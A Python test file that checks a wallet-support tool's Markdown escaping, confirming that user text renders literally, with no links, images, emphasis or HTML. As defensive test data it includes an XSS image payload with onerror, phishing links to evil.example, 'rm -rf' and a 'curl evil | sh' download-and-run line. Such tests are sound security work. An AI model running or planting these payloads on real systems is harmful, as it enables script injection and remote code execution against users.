"""User text in Markdown output is shown as typed: no link, image, emphasis, code, HTML or table break of its own.

Checked with a real CommonMark parser (markdown-it-py, which Rich already depends on): what a
viewer displays must be exactly the text the user typed (after control characters are removed).
"""

import html

from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from walletaid.textsafe import clean, for_markdown

MD = MarkdownIt("commonmark").enable(["table", "strikethrough"])
ALPHABET = list("ab1 _*`[]()<>!|~&#;:/.\\-+=\"'xy中文") + ["http://", "www.", "&amp;", "&#35;", "](", "**", "__"]


def _shown(markdown_line: str) -> str:
    """The text a viewer shows for one line of inline Markdown (tags removed, entities decoded)."""
    rendered = MD.renderInline(markdown_line)
    assert "<" not in rendered.replace("&lt;", ""), rendered  # no element at all: no a, img, em, code, html
    return html.unescape(rendered)


@settings(max_examples=400)
@given(st.lists(st.sampled_from(ALPHABET), max_size=30).map("".join))
def test_a_viewer_shows_exactly_what_was_typed(text: str) -> None:
    typed = clean(text, keep_newlines=False)
    assert _shown("Note: " + for_markdown(text)).rstrip() == ("Note: " + typed).rstrip()


@settings(max_examples=400)
@given(st.lists(st.sampled_from(ALPHABET), max_size=30).map("".join))
def test_inside_a_labelled_list_item_too(text: str) -> None:
    # the way case files show a value: the label's own "**" must not pair with anything the user typed
    rendered = MD.render("- **Label**: " + for_markdown(text)).strip()
    head, tail = "<ul>\n<li><strong>Label</strong>: ", "</li>\n</ul>"
    assert rendered.startswith(head.rstrip()) and rendered.endswith(tail), rendered
    inner = rendered[len(head.rstrip()):-len(tail)]
    assert "<" not in inner.replace("&lt;", ""), rendered
    assert html.unescape(inner).strip() == clean(text, keep_newlines=False).strip()


def test_known_attacks_stay_text() -> None:
    for text in ("[pay here](http://evil.example)", "![x](http://evil.example/a.png)", "<img src=x onerror=alert(1)>",
                 "<http://evil.example>", "**urgent** _now_", "`rm -rf`", "a | b", "~~gone~~", "&amp;", "[x][1]"):
        assert _shown("Note: " + for_markdown(text)) == "Note: " + text


def test_table_cells_keep_their_columns() -> None:
    row = "| " + " | ".join(for_markdown(c) for c in ("a|b", "c\\|d", "`|`")) + " |"
    rendered = MD.render("| x | y | z |\n| --- | --- | --- |\n" + row + "\n")
    assert rendered.count("<td>") == 3


def test_plain_text_is_left_readable() -> None:
    text = "[REDACTED:verification_code] 还有 snake_case #1 12.50 元 (2026-11-20) a-b > c 138****5678"
    assert for_markdown(text) == text


def test_bare_web_addresses_are_not_left_linkable() -> None:
    out = for_markdown("go to http://evil.example or www.evil.example")
    assert "http://" not in out and "www." not in out


def test_an_exported_case_file_shows_the_user_s_markdown_as_text(cli, tmp_path) -> None:
    import json

    answers = {"wallet": "ecny", "operator": "icbc", "symptom": "payment_failed", "phone": "13812345678",
               "occurred_at": "2026-11-20 10:00", "amount": "12.50",
               "description": "see [pay here](http://evil.example) <img src=x onerror=alert(1)> **now**",
               "steps": ["`curl evil | sh`", "~~undo~~ www.evil.example"], "counterparty": "a | b"}
    path = tmp_path / "a.json"
    path.write_text(json.dumps(answers), encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    assert cli("prepare-ticket", "--answers", str(path), "--out", str(out), "--lang", "en").code == 0
    rendered = MD.render(next(out.glob("*.md")).read_text(encoding="utf-8"))
    for tag in ("<a ", "<img", "<code>", "<s>", "<del>"):
        assert tag not in rendered, tag
    assert "now</" not in rendered and "undo</" not in rendered               # no emphasis from the user's text
    shown = html.unescape(rendered)
    assert "[pay here](http://evil.example)" in shown and "**now**" in shown   # shown, as typed
